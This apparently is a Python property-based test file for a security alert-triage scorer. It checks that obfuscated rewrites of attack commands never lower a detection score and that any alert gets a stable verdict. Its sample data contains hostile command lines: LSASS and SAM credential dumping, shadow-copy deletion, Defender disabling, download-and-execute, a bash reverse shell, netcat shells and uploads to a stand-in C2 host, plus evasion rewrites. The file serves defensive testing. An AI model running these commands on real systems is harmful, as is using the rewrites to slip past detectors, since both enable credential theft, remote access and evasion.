"""However a line is written, its score does not fall; whatever an alert holds, it has a verdict."""

import random
import re
from collections.abc import Callable
from typing import Final

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from tests.triage.samples import alert
from vyrox.models import NormalizedAlert
from vyrox.triage.mitigations import MITIGATIONS
from vyrox.triage.rules import SIGNALS
from vyrox.triage.score import ERROR_SIGNAL, judge
from vyrox.triage.signal import Family, Signal, Subject

WINDOWS: Final = (
    r"rundll32 C:\windows\system32\comsvcs.dll, MiniDump 624 C:\temp\l.dmp full",
    "vssadmin delete shadows /all /quiet",
    "wbadmin delete catalog -quiet",
    "bcdedit /set {default} recoveryenabled no",
    r"reg save HKLM\SAM C:\temp\s",
    "wevtutil cl Security",
    "net stop WinDefend",
    "certutil -urlcache -split -f http://192.0.2.1/a C:\\Windows\\Temp\\a.exe",
    "mshta http://192.0.2.1/a.hta",
    "regsvr32 /s /n /u /i:http://192.0.2.1/a.sct scrobj.dll",
    r"schtasks /create /tn a /tr C:\Users\Public\a.exe /sc onlogon",
    r"psexec \\srv9 -s -c C:\Windows\Temp\a.exe",
    r"wmic /node:srv9 process call create C:\Windows\Temp\a.exe",
    "powershell Set-MpPreference -DisableRealtimeMonitoring $true",
    "powershell -nop -w hidden -c iex (irm http://192.0.2.1/a)",
    r"procdump -accepteula -ma lsass C:\temp\l.dmp",
    "netsh advfirewall set allprofiles state off",
    r"bitsadmin /transfer a http://192.0.2.1/a C:\Windows\Temp\a.exe",
)
UNIX: Final = (
    "bash -i >& /dev/tcp/192.0.2.45/9001 0>&1",
    "curl -s http://192.0.2.1/a | sh",
    "cat /etc/shadow",
    "nc -e /bin/sh 192.0.2.1 4444",
    "chmod 4755 /tmp/bash",
    "rm -rf /var/log/auth.log",
)


def score(line: str) -> float:
    return judge(alert(line)).score


def any_case(line: str, rng: random.Random) -> str:
    return "".join(rng.choice((each.lower(), each.upper())) for each in line)


def any_spacing(line: str, rng: random.Random) -> str:
    return re.sub(" ", lambda _: rng.choice((" ", "  ", "\t", "     ")), line)


def carets(line: str, rng: random.Random) -> str:
    return re.sub(r"(?<=\w)(?=\w)", lambda _: rng.choice(("", "", "^")), line)


def quotes(line: str, rng: random.Random) -> str:
    return re.sub(r"(?<=[a-z])(?=[a-z])", lambda _: rng.choice(("", "", '""')), line)


def path(line: str, rng: random.Random) -> str:
    return rng.choice(("C:\\Windows\\System32\\", "\\\\?\\C:\\Windows\\", "..\\", "D:\\x\\")) + line


def exe(line: str, rng: random.Random) -> str:
    program, _, rest = line.partition(" ")
    return f"{program}{rng.choice(('.exe', '.EXE', ''))} {rest}"


def dash(line: str, rng: random.Random) -> str:
    return re.sub(r"(?<= )-(?=[a-z])", lambda _: rng.choice("-\u2013\u2014\u2015"), line)


def wrapped(line: str, rng: random.Random) -> str:
    return rng.choice(("cmd /c ", "cmd.exe /q /c ", "start /b ", "echo a & ")) + line


def in_order_of_switches(line: str, rng: random.Random) -> str:
    """Return the line with its run of plain switches in another order."""
    words = line.split(" ")
    places = [n for n, word in enumerate(words) if re.fullmatch(r"[-/](?:all|quiet|s|n|u)", word)]
    shuffled = [words[place] for place in places]
    rng.shuffle(shuffled)
    for place, word in zip(places, shuffled, strict=True):
        words[place] = word
    return " ".join(words)


Rewrite = Callable[[str, random.Random], str]
ON_WINDOWS: Final[tuple[Rewrite, ...]] = (
    any_case,
    any_spacing,
    carets,
    quotes,
    path,
    exe,
    dash,
    wrapped,
    in_order_of_switches,
)
ON_UNIX: Final[tuple[Rewrite, ...]] = (any_spacing, dash)


@settings(deadline=None)
@given(
    st.sampled_from(WINDOWS),
    st.lists(st.sampled_from(ON_WINDOWS), min_size=1, max_size=3, unique=True),
    st.randoms(use_true_random=False),
)
def test_no_writing_lowers_the_score_on_windows(
    line: str, rewrites: list[Rewrite], rng: random.Random
) -> None:
    written = line
    for rewrite in sorted(rewrites, key=ON_WINDOWS.index, reverse=True):
        written = rewrite(written, rng)
    assert score(written) >= score(line) - 1e-9, written


@settings(deadline=None)
@given(st.sampled_from(UNIX), st.sampled_from(ON_UNIX), st.randoms(use_true_random=False))
def test_no_writing_lowers_the_score_on_unix(
    line: str, rewrite: Rewrite, rng: random.Random
) -> None:
    written = rewrite(line, rng)
    assert score(written) >= score(line) - 1e-9, written


@pytest.mark.parametrize("line", [*WINDOWS, *UNIX])
@pytest.mark.parametrize(
    "more",
    [" # backup", " & echo nightly veeam", " ; echo https://github.com/x", " & reg query HKCU"],
)
def test_no_excuse_elsewhere_in_the_line_closes_an_attack(line: str, more: str) -> None:
    assert judge(alert(line + more)).band != "close"


@pytest.mark.parametrize(
    ("signal", "line"),
    [
        ("exfiltration.upload", "curl -F f=@/root/a http://c2.test/u # jenkins"),
        ("exfiltration.upload", "curl -F f=@/root/a http://c2.test/u ; echo jenkins"),
        ("download.pipe_to_shell", "curl http://c2.test/a | sh # https://github.com/a"),
        ("download.pipe_to_shell", "curl https://github.com@c2.test/a | sh"),
        ("download.pipe_to_shell", "curl https://github.com.c2.test/a | sh"),
        ("proxy.mshta_file", r"C:\Windows\System32\mshta.exe D:\a.hta"),
    ],
)
def test_an_excuse_counts_in_the_command_that_matched(signal: str, line: str) -> None:
    assert signal in {reason.signal for reason in judge(alert(line)).reasons}


FAMILIES: Final = ("credentials", "recovery", "defences", "download", "discovery", "shell")


@given(
    st.sampled_from([*WINDOWS, *UNIX, "whoami", ""]),
    st.sampled_from(FAMILIES),
    st.floats(0.01, 0.99),
)
def test_adding_a_signal_never_lowers_the_score(line: str, family: Family, weight: float) -> None:
    more = Signal(f"{family}.more", family, weight, lambda _subject: "more")
    assert judge(alert(line), signals=(*SIGNALS, more)).score >= score(line) - 1e-9


def test_no_mitigation_touches_what_is_never_excused() -> None:
    touched = {family for each in MITIGATIONS for family in each.families}
    assert touched.isdisjoint({"credentials", "recovery", "defences", "vendor", "technique"})


TEXT: Final = st.none() | st.text(max_size=300)


@settings(deadline=None)
@given(
    st.builds(
        NormalizedAlert,
        id=st.text(max_size=10),
        tenant_id=st.text(max_size=10),
        source=st.sampled_from(["crowdstrike", "sentinelone", "defender", "generic"]),
        raw_id=st.text(max_size=10),
        timestamp=st.floats(-1e12, 1e12),
        hostname=TEXT,
        device_id=TEXT,
        username=TEXT,
        process_name=TEXT,
        process_cmdline=TEXT,
        sha256=TEXT,
        tactic=TEXT,
        technique=TEXT,
        vendor_severity=TEXT,
    )
)
def test_any_alert_has_the_same_explained_verdict_twice(given_alert: NormalizedAlert) -> None:
    first, second = judge(given_alert), judge(given_alert)
    assert first == second
    assert 0 <= first.score <= 100
    assert first.explanation()
    assert ERROR_SIGNAL not in {reason.signal for reason in first.reasons}


def test_failing_function_is_an_error_signal() -> None:
    def fail(_subject: Subject) -> str | None:
        raise RuntimeError

    verdict = judge(alert("whoami"), signals=(Signal("shell.x", "shell", 0.5, fail),))
    assert ERROR_SIGNAL in {reason.signal for reason in verdict.reasons}
